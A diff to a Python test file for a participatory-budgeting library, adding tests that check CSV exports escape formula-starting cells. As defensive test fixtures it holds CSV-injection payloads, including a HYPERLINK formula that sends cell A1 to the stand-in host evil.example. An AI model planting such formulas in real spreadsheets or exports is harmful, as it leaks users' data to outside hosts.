@@ -2,16 +2,28 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 from dataclasses import replace
 from fractions import Fraction
 
 import pytest
 
 from vilco_core.ballots import BallotRules
+from vilco_core.deliberation import Evaluation, evaluations_csv
 from vilco_core.demo_ballots import PATH, demo_ballots_csv
-from vilco_core.model import LocalText, Phase, PhaseWindow, Process, ProcessKind
-from vilco_core.results import format_euros
+from vilco_core.model import (
+    LocalText,
+    Phase,
+    PhaseWindow,
+    Process,
+    ProcessKind,
+    Project,
+    ProjectStatus,
+)
+from vilco_core.results import format_euros, results_csv, tally_results
+from vilco_core.spreadsheet import csv_text, safe_cell
 from vilco_core.validation import validate_process
 
 DAY = dt.date(2027, 3, 1)
@@ -66,3 +78,29 @@ def test_results_knapsack_without_budget_uses_the_envelope() -> None:
 def test_results_ballot_settings_are_validated(ballot: BallotRules, code: str) -> None:
     assert [p.code for p in validate_process(replace(PROCESS, ballot=ballot))] == [code]
     assert validate_process(PROCESS) == []
+
+
+def test_results_csv_does_not_let_a_title_or_id_run_as_a_formula() -> None:
+    attack = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+    project = Project(id=1, process_id=1, ref="@SUM(A1)", title=LocalText(fr=attack, nl=attack),
+                      description=LocalText(fr="", nl=""), cost_cents=1000_00, lat=50.8,
+                      lon=4.3, status=ProjectStatus.ELIGIBLE)  # fmt: skip
+    results = tally_results(replace(PROCESS, rule="greedy"), [project], [], provisional=True)
+    row = next(csv.DictReader(io.StringIO(results_csv(results, "fr"))))
+    assert row["project"] == "'@SUM(A1)"
+    assert row["title"] == "'" + attack
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_results_every_csv_export_escapes_formula_cells(start: str) -> None:
+    assert safe_cell(start + "1+1") == "'" + start + "1+1"
+    assert safe_cell(-5) == -5 and safe_cell("1-1") == "1-1"
+    assert csv_text(["a"], [["=1+1"]]) == "a\n'=1+1\n"
+
+
+def test_results_evaluations_csv_escapes_comments_through_the_shared_function() -> None:
+    attack = '=HYPERLINK("https://evil.example","x")'
+    row = Evaluation(process_id=1, scope="s", respondent="@r", language="fr", answers=(5,),
+                     comment=attack)  # fmt: skip
+    parsed = list(csv.reader(io.StringIO(evaluations_csv([row]))))[1]
+    assert (parsed[-1], parsed[2]) == ("'" + attack, "'@r")
